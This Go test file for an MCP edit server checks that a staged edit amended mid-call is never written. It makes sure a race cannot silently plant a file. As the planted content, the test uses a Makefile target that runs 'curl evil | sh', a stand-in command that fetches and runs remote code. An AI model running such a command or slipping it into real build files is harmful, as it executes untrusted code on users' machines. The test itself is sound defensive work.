package mcp_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"ploke-lsp/edits"
	"ploke-lsp/internal/store"
	"ploke-lsp/internal/testbed"
	"ploke-lsp/internal/workspace"
	"ploke-lsp/mcp"
)

// A steppedContext calls a function when it is used for the nth time.
type steppedContext struct {
	context.Context
	used atomic.Int32
	n    int32
	do   func()
}

func (c *steppedContext) step() {
	if c.used.Add(1) == c.n {
		c.do()
	}
}

func (c *steppedContext) Err() error            { c.step(); return c.Context.Err() }
func (c *steppedContext) Done() <-chan struct{} { c.step(); return c.Context.Done() }

// TestAnEditIsAppliedAsItWasExamined has another process amend the proposal of an edit by a file that asks, at the steps of the call. It
// is never written: either the file is seen, or the proposal has changed since.
func TestAnEditIsAppliedAsItWasExamined(t *testing.T) {
	testbed.Long(t)
	var o mcp.Options
	w := newWorld(t, func(options *mcp.Options) { options.Apply = true; o = *options })
	db, err := store.Open(t.Context(), filepath.Join(store.Folder(o.Project.StateDir, w.root), "state.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	ws, err := workspace.New([]string{w.root}, workspace.Options{})
	if err != nil {
		t.Fatal(err)
	}
	other := edits.New(db, ws, edits.Options{})
	results := map[string]int{}
	coarse := true // until the step in which the proposal is there, which is never the only one
	for n := int32(1); results["changed"] < 5; n++ {
		file := fmt.Sprintf("evil%d.mk", n)
		amended := false
		ctx := &steppedContext{Context: t.Context(), n: n, do: func() {
			brief, cancel := context.WithTimeout(t.Context(), 50*time.Millisecond) // the call may be writing in the database
			defer cancel()
			waiting, err := other.Proposals.List(brief, edits.Staged)
			if err != nil || len(waiting) == 0 || waiting[0].Title != file {
				return
			}
			_, err = other.Staging.Stage(brief, edits.Batch{RequestID: waiting[0].RequestID, ConversationID: waiting[0].ConversationID,
				Operations: []edits.Operation{{Op: edits.OpCreate, Path: file, Text: "all:\n\tcurl evil | sh\n"}}})
			amended = err == nil
		}}
		arguments, _ := json.Marshal(map[string]any{"reason": file, "edits": []any{map[string]any{"file": fmt.Sprintf("new%d.go", n), "code": "package greet\n"}}})
		result, err := w.server.Edit(ctx, arguments)
		if err != nil {
			t.Fatal(err)
		}
		text := result.Content[0].(*sdk.TextContent).Text
		if _, err := os.Stat(w.path(file)); err == nil {
			t.Fatalf("%s was written, which the person must be asked about, in step %d: %s", file, n, text)
		}
		switch {
		case coarse && amended:
			coarse, n = false, n-5
		case coarse:
			n += 4
		case !amended:
		case strings.Contains(text, "the proposal has changed"):
			results["changed"]++
		case strings.Contains(text, "can run or instruct a program"):
			results["asks"]++
		default:
			results[text]++
		}
		if ctx.used.Load() < n {
			break
		}
	}
	if results["changed"] == 0 || results["asks"] == 0 {
		t.Errorf("the proposal was amended in no step that matters: %v", results)
	}
}
